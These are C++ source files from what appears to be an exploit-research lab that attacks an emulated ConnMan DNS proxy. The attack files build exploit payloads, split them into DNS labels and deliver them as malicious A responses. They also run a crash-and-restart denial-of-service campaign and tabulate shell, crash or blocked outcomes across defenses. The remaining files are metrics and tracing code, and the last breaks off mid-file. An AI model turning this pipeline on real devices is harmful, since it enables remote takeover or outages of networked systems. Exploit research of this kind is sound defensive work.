#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"
#include "src/obs/obs.hpp"

namespace connlab::attack {

const Volley* VolleyBattery::Find(exploit::Technique technique) const {
  for (const Volley& volley : volleys) {
    if (volley.technique == technique) return &volley;
  }
  return nullptr;
}

util::Result<VolleyBattery> BuildVolleyBattery(
    isa::Arch arch, const loader::ProtectionConfig& lab_prot,
    std::uint64_t lab_seed, const std::vector<exploit::Technique>& techniques) {
  if (techniques.empty()) {
    return util::InvalidArgument("need at least one technique");
  }
  OBS_TRACE_SPAN(span, "attack", "BuildVolleyBattery");

  VolleyBattery battery;
  CONNLAB_ASSIGN_OR_RETURN(auto lab, loader::Boot(arch, lab_prot, lab_seed));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(battery.profile, extractor.Extract());
  battery.probes = static_cast<int>(lab_proxy.stats().responses);

  const dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
  CONNLAB_ASSIGN_OR_RETURN(battery.query_wire, dns::Encode(query));

  exploit::ExploitGenerator generator(battery.profile);
  for (const exploit::Technique technique : techniques) {
    auto image = generator.BuildImage(technique);
    if (!image.ok()) continue;  // not buildable for this profile
    auto labels = dns::CutIntoLabels(image.value());
    if (!labels.ok()) continue;
    Volley volley;
    volley.technique = technique;
    volley.payload_bytes = image.value().size();
    volley.labels = labels.value().size();
    dns::Message evil = dns::MaliciousAResponse(query, std::move(labels).value());
    CONNLAB_ASSIGN_OR_RETURN(volley.response_wire, dns::Encode(evil));
    OBS_COUNT("attack.volleys_built");
    battery.volleys.push_back(std::move(volley));
  }
  if (battery.volleys.empty()) {
    return util::FailedPrecondition("no requested technique is buildable");
  }
  span.Arg("volleys", static_cast<std::uint64_t>(battery.volleys.size()));
  return battery;
}

}  // namespace connlab::attack
