#include "src/attack/campaign.hpp"

#include "src/dns/craft.hpp"
#include "src/dns/record.hpp"
#include "src/loader/boot.hpp"

namespace connlab::attack {

util::Result<CampaignResult> RunDosCampaign(const CampaignConfig& config) {
  CampaignResult result;
  if (config.total_lookups <= 0) {
    return util::InvalidArgument("campaign needs lookups");
  }

  // The supervisor: (re)boots the daemon. Every restart is a fresh boot
  // (new ASLR draw), as a real init system would produce.
  std::uint64_t boot_seed = config.seed;
  auto sys = loader::Boot(config.arch, config.prot, boot_seed);
  CONNLAB_RETURN_IF_ERROR(sys.status());
  auto proxy =
      std::make_unique<connman::DnsProxy>(*sys.value(), config.version);

  auto labels = dns::JunkLabels(4096);
  CONNLAB_RETURN_IF_ERROR(labels.status());

  int downtime = 0;
  for (int i = 0; i < config.total_lookups; ++i) {
    ++result.lookups_attempted;
    if (downtime > 0) {
      // Daemon is down; this lookup is lost. The supervisor finishes the
      // restart after `restart_downtime_lookups` ticks.
      --downtime;
      ++result.lookups_lost_downtime;
      if (downtime == 0) {
        ++result.restarts;
        proxy.reset();  // the proxy references the dying System
        sys = loader::Boot(config.arch, config.prot, ++boot_seed);
        CONNLAB_RETURN_IF_ERROR(sys.status());
        proxy = std::make_unique<connman::DnsProxy>(*sys.value(),
                                                    config.version);
      }
      continue;
    }

    const auto id = static_cast<std::uint16_t>(i + 1);
    dns::Message query = dns::Message::Query(id, "metrics.vendor.example");
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy->AcceptClientQuery(qwire));

    const bool attacked =
        config.attack_every_n > 0 && (i + 1) % config.attack_every_n == 0;
    util::Bytes rwire;
    if (attacked) {
      ++result.attacks_sent;
      dns::Message evil = dns::MaliciousAResponse(query, labels.value());
      CONNLAB_ASSIGN_OR_RETURN(rwire, dns::Encode(evil));
    } else {
      dns::Message response = dns::Message::ResponseFor(query);
      response.answers.push_back(
          dns::MakeA("metrics.vendor.example", "93.184.216.34", 60));
      CONNLAB_ASSIGN_OR_RETURN(rwire, dns::Encode(response));
    }

    connman::ProxyOutcome outcome = proxy->HandleServerResponse(rwire);
    switch (outcome.kind) {
      case connman::ProxyOutcome::Kind::kParsedOk:
        ++result.lookups_served;
        break;
      case connman::ProxyOutcome::Kind::kCrash:
        ++result.crashes;
        downtime = config.restart_downtime_lookups;
        if (downtime == 0) {
          ++result.restarts;
          proxy.reset();
          sys = loader::Boot(config.arch, config.prot, ++boot_seed);
          CONNLAB_RETURN_IF_ERROR(sys.status());
          proxy = std::make_unique<connman::DnsProxy>(*sys.value(),
                                                      config.version);
        }
        break;
      case connman::ProxyOutcome::Kind::kParseError:
        // Patched build bounced the payload; the lookup itself fails but
        // the daemon survives.
        if (attacked) ++result.attacks_rejected;
        break;
      default:
        break;
    }
  }
  return result;
}

}  // namespace connlab::attack
