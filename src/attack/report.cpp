#include "src/attack/report.hpp"

#include <cstdio>

namespace connlab::attack {

std::string RenderMatrixTable(const std::vector<AttackResult>& results,
                              const std::string& title) {
  std::string out = "== " + title + " ==\n";
  char line[256];
  std::snprintf(line, sizeof(line), "%-6s %-14s %-18s %-18s %-14s %8s %7s\n",
                "arch", "protections", "version", "technique", "outcome",
                "payload", "probes");
  out += line;
  out += std::string(89, '-') + "\n";
  for (const AttackResult& r : results) {
    std::snprintf(line, sizeof(line), "%-6s %-14s %-18s %-18s %-14s %8zu %7d\n",
                  std::string(isa::ArchName(r.arch)).c_str(),
                  r.prot.ToString().c_str(),
                  std::string(connman::VersionName(r.version)).c_str(),
                  std::string(exploit::TechniqueName(r.technique)).c_str(),
                  r.OutcomeLabel().c_str(), r.payload_bytes, r.probes);
    out += line;
  }
  return out;
}

std::string RenderCsv(const std::vector<AttackResult>& results) {
  std::string out =
      "arch,protections,version,technique,shell,crash,outcome,payload_bytes,"
      "labels,response_bytes,probes,guest_steps\n";
  char line[320];
  for (const AttackResult& r : results) {
    std::snprintf(line, sizeof(line), "%s,%s,%s,%s,%d,%d,%s,%zu,%zu,%zu,%d,%llu\n",
                  std::string(isa::ArchName(r.arch)).c_str(),
                  r.prot.ToString().c_str(),
                  std::string(connman::VersionName(r.version)).c_str(),
                  std::string(exploit::TechniqueName(r.technique)).c_str(),
                  r.shell ? 1 : 0, r.crash ? 1 : 0,
                  std::string(connman::OutcomeKindName(r.kind)).c_str(),
                  r.payload_bytes, r.labels, r.response_bytes, r.probes,
                  static_cast<unsigned long long>(r.guest_steps));
    out += line;
  }
  return out;
}

namespace {
std::string JsonEscape(const std::string& text) {
  std::string out;
  for (char c : text) {
    if (c == '"' || c == '\\') out.push_back('\\');
    out.push_back(c);
  }
  return out;
}
}  // namespace

std::string RenderJson(const std::vector<AttackResult>& results) {
  std::string out = "[\n";
  char line[512];
  for (std::size_t i = 0; i < results.size(); ++i) {
    const AttackResult& r = results[i];
    std::snprintf(
        line, sizeof(line),
        "  {\"arch\": \"%s\", \"protections\": \"%s\", \"version\": \"%s\", "
        "\"technique\": \"%s\", \"shell\": %s, \"crash\": %s, "
        "\"outcome\": \"%s\", \"payload_bytes\": %zu, \"labels\": %zu, "
        "\"probes\": %d, \"detail\": \"%s\"}%s\n",
        std::string(isa::ArchName(r.arch)).c_str(),
        r.prot.ToString().c_str(),
        std::string(connman::VersionName(r.version)).c_str(),
        std::string(exploit::TechniqueName(r.technique)).c_str(),
        r.shell ? "true" : "false", r.crash ? "true" : "false",
        std::string(connman::OutcomeKindName(r.kind)).c_str(),
        r.payload_bytes, r.labels, r.probes, JsonEscape(r.detail).c_str(),
        i + 1 < results.size() ? "," : "");
    out += line;
  }
  out += "]\n";
  return out;
}

std::string RenderRemoteResult(const RemoteResult& remote) {
  std::string out;
  out += "benign resolution before attack: ";
  out += remote.benign_resolution_before ? "ok" : "FAILED";
  out += "\nvictim roamed to rogue AP:       ";
  out += remote.roamed_to_rogue ? "yes" : "NO";
  out += "\nqueries intercepted:             " +
         std::to_string(remote.queries_intercepted);
  out += "\nattack technique:                " +
         std::string(exploit::TechniqueName(remote.attack.technique));
  out += "\noutcome:                         " + remote.attack.OutcomeLabel();
  out += "\n";
  return out;
}

}  // namespace connlab::attack
