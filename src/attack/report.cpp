#include "src/attack/report.hpp"

#include <cstdio>

namespace connlab::attack {

std::string RenderMatrixTable(const std::vector<AttackResult>& results,
                              const std::string& title) {
  std::string out = "== " + title + " ==\n";
  char line[320];
  std::snprintf(line, sizeof(line),
                "%-6s %-14s %-18s %-18s %-10s %-14s %-16s %8s %7s\n",
                "arch", "protections", "version", "technique", "defense",
                "outcome", "why", "payload", "probes");
  out += line;
  out += std::string(117, '-') + "\n";
  for (const AttackResult& r : results) {
    std::snprintf(line, sizeof(line),
                  "%-6s %-14s %-18s %-18s %-10s %-14s %-16s %8zu %7d\n",
                  std::string(isa::ArchName(r.arch)).c_str(),
                  r.prot.ToString().c_str(),
                  std::string(connman::VersionName(r.version)).c_str(),
                  std::string(exploit::TechniqueName(r.technique)).c_str(),
                  r.defense.c_str(), r.OutcomeLabel().c_str(),
                  r.FailureLabel().c_str(), r.payload_bytes, r.probes);
    out += line;
  }
  return out;
}

namespace {

/// Grid row identity: the zoo rows carry their service name, the paper
/// rows stay exactly as before (service "dnsproxy" is implicit).
std::string GridRowKey(const AttackResult& r) {
  std::string key = std::string(isa::ArchName(r.arch)) + " / " +
                    r.prot.ToString() + " / " +
                    std::string(exploit::TechniqueName(r.technique));
  if (r.service != "dnsproxy") key = r.service + ": " + key;
  return key;
}

}  // namespace

std::string RenderDefenseGrid(const std::vector<AttackResult>& results,
                              const std::string& title) {
  // Column order = order of first appearance (RunDefenseGrid emits the
  // standard policies attack-major, so this recovers the policy sweep).
  std::vector<std::string> columns;
  for (const AttackResult& r : results) {
    bool known = false;
    for (const std::string& c : columns) known = known || c == r.defense;
    if (!known) columns.push_back(r.defense);
  }

  std::string out = "== " + title + " ==\n";
  char cell[64];
  std::snprintf(cell, sizeof(cell), "%-38s", "attack");
  out += cell;
  for (const std::string& c : columns) {
    std::snprintf(cell, sizeof(cell), " %-15s", c.c_str());
    out += cell;
  }
  out += "\n" + std::string(38 + 16 * columns.size(), '-') + "\n";

  std::vector<std::string> row_keys;
  for (const AttackResult& r : results) {
    const std::string key = GridRowKey(r);
    bool known = false;
    for (const std::string& k : row_keys) known = known || k == key;
    if (known) continue;
    row_keys.push_back(key);

    std::snprintf(cell, sizeof(cell), "%-38s", key.c_str());
    out += cell;
    for (const std::string& c : columns) {
      std::string value = "?";
      for (const AttackResult& other : results) {
        if (GridRowKey(other) != key || other.defense != c) continue;
        if (other.shell) {
          value = "SHELL";
        } else if (other.crash &&
                   other.failure == exploit::FailureCause::kNone) {
          // Control-flow-free bug classes: the crash *is* the attack.
          value = "DoS";
        } else {
          value = "blocked:" + other.FailureLabel();
        }
        break;
      }
      std::snprintf(cell, sizeof(cell), " %-15s", value.c_str());
      out += cell;
    }
    out += "\n";
  }
  return out;
}

std::string RenderCsv(const std::vector<AttackResult>& results) {
  std::string out =
      "service,arch,protections,version,technique,defense,shell,crash,outcome,"
      "failure,payload_bytes,labels,response_bytes,probes,guest_steps\n";
  char line[384];
  for (const AttackResult& r : results) {
    std::snprintf(line, sizeof(line),
                  "%s,%s,%s,%s,%s,%s,%d,%d,%s,%s,%zu,%zu,%zu,%d,%llu\n",
                  r.service.c_str(),
                  std::string(isa::ArchName(r.arch)).c_str(),
                  r.prot.ToString().c_str(),
                  std::string(connman::VersionName(r.version)).c_str(),
                  std::string(exploit::TechniqueName(r.technique)).c_str(),
                  r.defense.c_str(), r.shell ? 1 : 0, r.crash ? 1 : 0,
                  std::string(connman::OutcomeKindName(r.kind)).c_str(),
                  r.FailureLabel().c_str(), r.payload_bytes, r.labels,
                  r.response_bytes, r.probes,
                  static_cast<unsigned long long>(r.guest_steps));
    out += line;
  }
  return out;
}

namespace {
std::string JsonEscape(const std::string& text) {
  std::string out;
  for (char c : text) {
    if (c == '"' || c == '\\') out.push_back('\\');
    out.push_back(c);
  }
  return out;
}
}  // namespace

std::string RenderJson(const std::vector<AttackResult>& results) {
  std::string out = "[\n";
  char line[512];
  for (std::size_t i = 0; i < results.size(); ++i) {
    const AttackResult& r = results[i];
    std::snprintf(
        line, sizeof(line),
        "  {\"service\": \"%s\", \"arch\": \"%s\", \"protections\": \"%s\", "
        "\"version\": \"%s\", "
        "\"technique\": \"%s\", \"defense\": \"%s\", \"shell\": %s, "
        "\"crash\": %s, \"outcome\": \"%s\", \"failure\": \"%s\", "
        "\"payload_bytes\": %zu, \"labels\": %zu, "
        "\"probes\": %d, \"detail\": \"%s\"}%s\n",
        JsonEscape(r.service).c_str(),
        std::string(isa::ArchName(r.arch)).c_str(),
        r.prot.ToString().c_str(),
        std::string(connman::VersionName(r.version)).c_str(),
        std::string(exploit::TechniqueName(r.technique)).c_str(),
        JsonEscape(r.defense).c_str(),
        r.shell ? "true" : "false", r.crash ? "true" : "false",
        std::string(connman::OutcomeKindName(r.kind)).c_str(),
        r.FailureLabel().c_str(),
        r.payload_bytes, r.labels, r.probes, JsonEscape(r.detail).c_str(),
        i + 1 < results.size() ? "," : "");
    out += line;
  }
  out += "]\n";
  return out;
}

std::string RenderRemoteResult(const RemoteResult& remote) {
  std::string out;
  out += "benign resolution before attack: ";
  out += remote.benign_resolution_before ? "ok" : "FAILED";
  out += "\nvictim roamed to rogue AP:       ";
  out += remote.roamed_to_rogue ? "yes" : "NO";
  out += "\nqueries intercepted:             " +
         std::to_string(remote.queries_intercepted);
  out += "\nattack technique:                " +
         std::string(exploit::TechniqueName(remote.attack.technique));
  out += "\noutcome:                         " + remote.attack.OutcomeLabel();
  out += "\n";
  return out;
}

}  // namespace connlab::attack
