#include "src/obs/scope.hpp"

#include "src/obs/export.hpp"

namespace connlab::obs {

Scope::Scope(Options options) : options_(options) {
  baseline_ = Registry::Instance().Scrape();
  if (options_.trace) previous_sink_ = InstallTraceSink(&sink_);
}

Scope::~Scope() {
  if (options_.trace) InstallTraceSink(previous_sink_);
}

MetricsSnapshot Scope::Metrics() const {
  return Registry::Instance().Scrape().DeltaSince(baseline_);
}

std::string Scope::RenderTable() const { return RenderMetricsTable(Metrics()); }

util::Status Scope::WriteMetricsJson(const std::string& path) const {
  return WriteTextFile(path, MetricsToJson(Metrics()));
}

util::Status Scope::WriteTraceJson(const std::string& path) const {
  if (!options_.trace) {
    return util::FailedPrecondition(
        "scope was opened without trace; nothing to write to " + path);
  }
  return WriteTextFile(path, TraceToJson(sink_.Events()));
}

}  // namespace connlab::obs
