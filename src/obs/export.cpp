#include "src/obs/export.hpp"

#include <cstdio>

namespace connlab::obs {

namespace {

/// JSON string escaping for names/args (quotes, backslashes, control
/// bytes). Metric names are clean identifiers, but trace args carry
/// free-form detail strings (crash details, stop reasons).
std::string JsonEscape(const std::string& text) {
  std::string out;
  out.reserve(text.size() + 2);
  for (const char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

std::string U64(std::uint64_t v) { return std::to_string(v); }

/// "vm.stop.fault" -> "vm" (the table's grouping key).
std::string GroupOf(const std::string& name) {
  const std::size_t dot = name.find('.');
  return dot == std::string::npos ? name : name.substr(0, dot);
}

}  // namespace

std::string MetricsToJson(const MetricsSnapshot& snapshot) {
  std::vector<std::string> fields;
  for (const auto& [name, value] : snapshot.counters) {
    fields.push_back("\"" + JsonEscape(name) + "\": " + U64(value));
  }
  for (const auto& [name, value] : snapshot.gauges) {
    fields.push_back("\"" + JsonEscape(name) + "\": " + U64(value));
  }
  for (const auto& [name, data] : snapshot.histograms) {
    fields.push_back("\"" + JsonEscape(name) + ".count\": " + U64(data.count));
    fields.push_back("\"" + JsonEscape(name) + ".sum\": " + U64(data.sum));
    std::string buckets = "\"" + JsonEscape(name) + ".buckets\": [";
    for (std::size_t i = 0; i < data.buckets.size(); ++i) {
      if (i != 0) buckets += ", ";
      buckets += U64(data.buckets[i]);
    }
    buckets += "]";
    fields.push_back(std::move(buckets));
  }
  std::string out = "{\n";
  for (std::size_t i = 0; i < fields.size(); ++i) {
    out += "  " + fields[i];
    if (i + 1 < fields.size()) out += ',';
    out += '\n';
  }
  out += "}\n";
  return out;
}

std::string RenderMetricsTable(const MetricsSnapshot& snapshot) {
  std::string out;
  char line[160];
  std::string group;
  const auto group_header = [&](const std::string& name) {
    const std::string g = GroupOf(name);
    if (g != group) {
      group = g;
      out += "  [" + group + "]\n";
    }
  };
  for (const auto& [name, value] : snapshot.counters) {
    if (value == 0) continue;
    group_header(name);
    std::snprintf(line, sizeof(line), "    %-40s %14llu\n", name.c_str(),
                  static_cast<unsigned long long>(value));
    out += line;
  }
  for (const auto& [name, value] : snapshot.gauges) {
    if (value == 0) continue;
    group_header(name);
    std::snprintf(line, sizeof(line), "    %-40s %14llu  (gauge)\n",
                  name.c_str(), static_cast<unsigned long long>(value));
    out += line;
  }
  for (const auto& [name, data] : snapshot.histograms) {
    if (data.count == 0) continue;
    group_header(name);
    std::snprintf(line, sizeof(line),
                  "    %-40s %14llu  (hist: sum %llu, mean %.1f)\n",
                  name.c_str(), static_cast<unsigned long long>(data.count),
                  static_cast<unsigned long long>(data.sum),
                  static_cast<double>(data.sum) /
                      static_cast<double>(data.count));
    out += line;
  }
  if (out.empty()) out = "  (no metrics recorded)\n";
  return out;
}

std::string TraceToJson(const std::vector<TraceEvent>& events) {
  std::string out = "{\"traceEvents\": [\n";
  for (std::size_t i = 0; i < events.size(); ++i) {
    const TraceEvent& e = events[i];
    out += "  {\"name\": \"" + JsonEscape(e.name) + "\", \"cat\": \"" +
           JsonEscape(e.phase) + "\", \"ph\": \"";
    out += e.instant ? 'i' : 'X';
    out += "\", \"pid\": 1, \"tid\": " + U64(e.tid) +
           ", \"ts\": " + U64(e.ts_us);
    if (!e.instant) out += ", \"dur\": " + U64(e.dur_us);
    if (e.instant) out += ", \"s\": \"t\"";  // thread-scoped instant
    if (!e.args.empty()) {
      out += ", \"args\": {";
      for (std::size_t a = 0; a < e.args.size(); ++a) {
        if (a != 0) out += ", ";
        out += "\"" + JsonEscape(e.args[a].first) + "\": \"" +
               JsonEscape(e.args[a].second) + "\"";
      }
      out += "}";
    }
    out += "}";
    if (i + 1 < events.size()) out += ',';
    out += '\n';
  }
  out += "], \"displayTimeUnit\": \"ms\"}\n";
  return out;
}

util::Status WriteTextFile(const std::string& path,
                           const std::string& content) {
  std::FILE* f = std::fopen(path.c_str(), "w");
  if (f == nullptr) {
    return util::Internal("cannot open " + path + " for writing");
  }
  const bool ok =
      std::fwrite(content.data(), 1, content.size(), f) == content.size();
  std::fclose(f);
  if (!ok) return util::Internal("short write to " + path);
  return util::OkStatus();
}

}  // namespace connlab::obs
