// Umbrella header + instrumentation macros for the observability layer.
//
// The macros are built so instrumented code costs (almost) nothing when
// nobody is looking:
//
//   OBS_COUNT / OBS_COUNT_N  — the registry lookup happens once per call
//     site (a function-local static reference); steady state is a single
//     relaxed atomic add on a per-thread shard. Hot loops batch instead:
//     the VM adds its retired-step count once per Run(), not per step.
//   OBS_TRACE_SPAN / OBS_TRACE_INSTANT — branch-on-null against the
//     process-wide sink pointer; with no obs::Scope tracing, a span is one
//     atomic load and a skipped branch.
//
// Compile-time kill switch: building with -DCONNLAB_OBS_DISABLED turns
// every macro into a compile-checked no-op — the name and value
// expressions are still type-checked (sizeof in an unevaluated context),
// so instrumentation can never rot behind the flag, but no counter, sink
// check or registry exists in the binary at all.
#pragma once

#include "src/obs/export.hpp"
#include "src/obs/metrics.hpp"
#include "src/obs/scope.hpp"
#include "src/obs/trace.hpp"

#ifndef CONNLAB_OBS_DISABLED

#define OBS_COUNT_N(metric_name, n)                                \
  do {                                                             \
    static ::connlab::obs::Counter& obs_counter_ =                 \
        ::connlab::obs::Registry::Instance().GetCounter(metric_name); \
    obs_counter_.Add(n);                                           \
  } while (0)

#define OBS_COUNT(metric_name) OBS_COUNT_N(metric_name, 1)

#define OBS_GAUGE_SET(metric_name, value)                          \
  do {                                                             \
    static ::connlab::obs::Gauge& obs_gauge_ =                     \
        ::connlab::obs::Registry::Instance().GetGauge(metric_name); \
    obs_gauge_.Set(value);                                         \
  } while (0)

#define OBS_HISTOGRAM(metric_name, value)                          \
  do {                                                             \
    static ::connlab::obs::Histogram& obs_hist_ =                  \
        ::connlab::obs::Registry::Instance().GetHistogram(metric_name); \
    obs_hist_.Observe(value);                                      \
  } while (0)

/// Declares a local RAII span named `var`; use var.Arg(...) to attach
/// key/value detail before the scope closes.
#define OBS_TRACE_SPAN(var, phase, span_name) \
  ::connlab::obs::TraceSpan var((phase), (span_name))

#define OBS_TRACE_INSTANT(phase, event_name, ...)                      \
  do {                                                                 \
    if (::connlab::obs::TraceSink* obs_sink_ =                         \
            ::connlab::obs::CurrentTraceSink()) {                      \
      obs_sink_->RecordInstant((phase), (event_name), {__VA_ARGS__});  \
    }                                                                  \
  } while (0)

#else  // CONNLAB_OBS_DISABLED: compile-checked zero-cost no-ops.

#define OBS_COUNT_N(metric_name, n) \
  do {                              \
    (void)sizeof(metric_name);      \
    (void)sizeof(n);                \
  } while (0)
#define OBS_COUNT(metric_name) OBS_COUNT_N(metric_name, 1)
#define OBS_GAUGE_SET(metric_name, value) OBS_COUNT_N(metric_name, value)
#define OBS_HISTOGRAM(metric_name, value) OBS_COUNT_N(metric_name, value)
#define OBS_TRACE_SPAN(var, phase, span_name) \
  ::connlab::obs::NullSpan var;               \
  (void)sizeof(phase);                        \
  (void)sizeof(span_name)
#define OBS_TRACE_INSTANT(phase, event_name, ...) \
  do {                                            \
    (void)sizeof(phase);                          \
    (void)sizeof(event_name);                     \
  } while (0)

namespace connlab::obs {
/// Stand-in for TraceSpan under the kill switch: accepts Arg() calls and
/// optimizes to nothing.
struct NullSpan {
  template <typename K, typename V>
  void Arg(K&&, V&&) noexcept {}
};
}  // namespace connlab::obs

#endif  // CONNLAB_OBS_DISABLED
