// Structured trace events: {ts, tid, phase, name, args} spans and instants,
// exported as Chrome `chrome://tracing` / Perfetto-compatible JSON.
//
// One TraceSink is installed process-wide (an atomic pointer); when none is
// installed the instrumentation macros are a single branch-on-null, so the
// fuzz loop and the VM pay nothing for the feature they are not using.
// Recording takes a mutex — spans are emitted at campaign/worker/boot
// granularity (tens to thousands per run), never per instruction or per
// exec, so the lock is cold by construction.
//
// Timestamps are steady-clock microseconds since a process-wide anchor, so
// every event in a process shares one monotonic axis regardless of which
// sink or thread recorded it.
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <utility>
#include <vector>

namespace connlab::obs {

/// Small integer id for the calling thread (assigned on first use), stable
/// for the thread's lifetime — what the `tid` track in the trace UI shows.
std::uint32_t ThisThreadTraceId() noexcept;

/// Microseconds since the process-wide trace epoch (first use).
std::uint64_t TraceNowUs() noexcept;

struct TraceEvent {
  std::uint64_t ts_us = 0;   // start (spans) or occurrence (instants)
  std::uint64_t dur_us = 0;  // span duration; unused for instants
  std::uint32_t tid = 0;
  bool instant = false;
  std::string phase;  // subsystem bucket: "vm", "loader", "fuzz", ...
  std::string name;
  std::vector<std::pair<std::string, std::string>> args;
};

class TraceSink {
 public:
  void RecordSpan(std::uint64_t start_us, std::uint64_t end_us,
                  std::string phase, std::string name,
                  std::vector<std::pair<std::string, std::string>> args = {});
  void RecordInstant(
      std::string phase, std::string name,
      std::vector<std::pair<std::string, std::string>> args = {});

  /// Copy of everything recorded so far, sorted by timestamp (ties keep
  /// record order), so consumers and the JSON export see a monotonic axis.
  [[nodiscard]] std::vector<TraceEvent> Events() const;

  [[nodiscard]] std::size_t size() const;

 private:
  mutable std::mutex mu_;
  std::vector<TraceEvent> events_;
};

/// Installs `sink` as the process-wide trace sink (nullptr uninstalls).
/// Returns the previously installed sink.
TraceSink* InstallTraceSink(TraceSink* sink) noexcept;

/// The currently installed sink, or nullptr — THE hot-path check.
TraceSink* CurrentTraceSink() noexcept;

/// RAII span: captures the start timestamp if (and only if) a sink is
/// installed at construction, records the completed span at destruction.
/// Args can be attached any time before the scope closes.
class TraceSpan {
 public:
  TraceSpan(std::string_view phase, std::string_view name) {
    sink_ = CurrentTraceSink();
    if (sink_ == nullptr) return;
    phase_ = phase;
    name_ = name;
    start_us_ = TraceNowUs();
  }
  TraceSpan(const TraceSpan&) = delete;
  TraceSpan& operator=(const TraceSpan&) = delete;
  ~TraceSpan() {
    if (sink_ == nullptr) return;
    sink_->RecordSpan(start_us_, TraceNowUs(), std::move(phase_),
                      std::move(name_), std::move(args_));
  }

  void Arg(std::string key, std::string value) {
    if (sink_ != nullptr) args_.emplace_back(std::move(key), std::move(value));
  }
  void Arg(std::string key, std::uint64_t value) {
    Arg(std::move(key), std::to_string(value));
  }

 private:
  TraceSink* sink_ = nullptr;
  std::uint64_t start_us_ = 0;
  std::string phase_;
  std::string name_;
  std::vector<std::pair<std::string, std::string>> args_;
};

}  // namespace connlab::obs
