// Exporters for the observability layer: metrics snapshots as flat JSON
// and a human-readable end-of-run table; trace events as Chrome
// `chrome://tracing` / Perfetto-compatible JSON ("traceEvents" array of
// "X"/"i" phase records with microsecond timestamps).
#pragma once

#include <string>
#include <vector>

#include "src/obs/metrics.hpp"
#include "src/obs/trace.hpp"
#include "src/util/status.hpp"

namespace connlab::obs {

/// Flat JSON object: one key per counter/gauge, histograms as
/// `<name>.count` / `<name>.sum` plus a `<name>.buckets` array. Keys are
/// emitted sorted so fixed-seed runs produce byte-identical artifacts.
std::string MetricsToJson(const MetricsSnapshot& snapshot);

/// Aligned text table of every non-zero metric, grouped by the dotted
/// prefix ("vm", "fuzz", ...) — the end-of-run report the examples print.
std::string RenderMetricsTable(const MetricsSnapshot& snapshot);

/// Chrome trace JSON: {"traceEvents": [...], "displayTimeUnit": "ms"}.
/// Spans are "ph":"X" complete events, instants "ph":"i"; the subsystem
/// phase lands in "cat" and the args map is carried verbatim.
std::string TraceToJson(const std::vector<TraceEvent>& events);

/// Writes `content` to `path` (the --trace= / --metrics= flag backend).
util::Status WriteTextFile(const std::string& path, const std::string& content);

}  // namespace connlab::obs
