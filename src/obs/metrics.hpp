// Process-wide metrics registry: monotonic counters, gauges and
// fixed-bucket histograms, designed so the instrumented hot paths stay hot.
//
// Counters and histograms are sharded: each metric owns kShards
// cache-line-padded cells, a thread picks its cell once (a thread_local
// index assigned round-robin on first use) and from then on an increment is
// one relaxed atomic add with no sharing between campaign workers.
// Aggregation happens only at scrape time, when Registry::Scrape() sums the
// shards into a plain MetricsSnapshot.
//
// Metrics are looked up by name exactly once per call site: the OBS_*
// macros in obs.hpp stash the Registry::GetCounter() result in a
// function-local static, so steady state never touches the registry map or
// its mutex. Everything here is additive-only — scraping while workers are
// mid-increment is safe and merely yields a momentary undercount, which is
// why callers that need exact numbers (the end-of-campaign report) scrape
// after joining their threads.
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace connlab::obs {

/// Shard count for counters/histograms; a power of two comfortably above
/// the fuzzer's default worker ladder (1/2/4/8).
inline constexpr std::size_t kMetricShards = 16;

/// Draws the next shard index from the global round-robin (out of line; one
/// call per thread lifetime).
std::size_t AssignThreadShard() noexcept;

/// Stable per-thread shard index in [0, kMetricShards): assigned from a
/// global round-robin on first use, so campaign worker threads land on
/// distinct cells until the shard count is exceeded. Inline so the hot-path
/// Add() compiles to a TLS load + one relaxed fetch_add.
inline std::size_t ThisThreadShard() noexcept {
  thread_local const std::size_t shard = AssignThreadShard();
  return shard;
}

/// Monotonic counter. Add() is one relaxed atomic increment on this
/// thread's shard; Value() sums the shards (scrape-time only).
class Counter {
 public:
  explicit Counter(std::string name) : name_(std::move(name)) {}

  void Add(std::uint64_t n = 1) noexcept {
    shards_[ThisThreadShard()].v.fetch_add(n, std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t Value() const noexcept {
    std::uint64_t sum = 0;
    for (const Cell& cell : shards_) {
      sum += cell.v.load(std::memory_order_relaxed);
    }
    return sum;
  }
  [[nodiscard]] const std::string& name() const noexcept { return name_; }

 private:
  struct alignas(64) Cell {
    std::atomic<std::uint64_t> v{0};
  };
  std::string name_;
  Cell shards_[kMetricShards];
};

/// Last-write-wins gauge (worker counts, configured budgets). Not sharded:
/// sets are rare and the latest value is the interesting one.
class Gauge {
 public:
  explicit Gauge(std::string name) : name_(std::move(name)) {}

  void Set(std::uint64_t v) noexcept {
    value_.store(v, std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t Value() const noexcept {
    return value_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] const std::string& name() const noexcept { return name_; }

 private:
  std::string name_;
  std::atomic<std::uint64_t> value_{0};
};

/// Power-of-two-bucket histogram: bucket i counts observations in
/// [2^(i-1), 2^i) with bucket 0 reserved for zero. Fixed bucket count, no
/// allocation after construction, sharded like Counter.
class Histogram {
 public:
  static constexpr std::size_t kBuckets = 33;  // zero + 32 doubling buckets

  explicit Histogram(std::string name) : name_(std::move(name)) {}

  void Observe(std::uint64_t value) noexcept {
    Shard& shard = shards_[ThisThreadShard()];
    shard.buckets[BucketIndex(value)].fetch_add(1, std::memory_order_relaxed);
    shard.sum.fetch_add(value, std::memory_order_relaxed);
  }

  /// floor(log2(value)) + 1, 0 for 0 — the fixed bucket map.
  [[nodiscard]] static std::size_t BucketIndex(std::uint64_t value) noexcept {
    std::size_t index = 0;
    while (value != 0) {
      value >>= 1;
      ++index;
    }
    return index < kBuckets ? index : kBuckets - 1;
  }

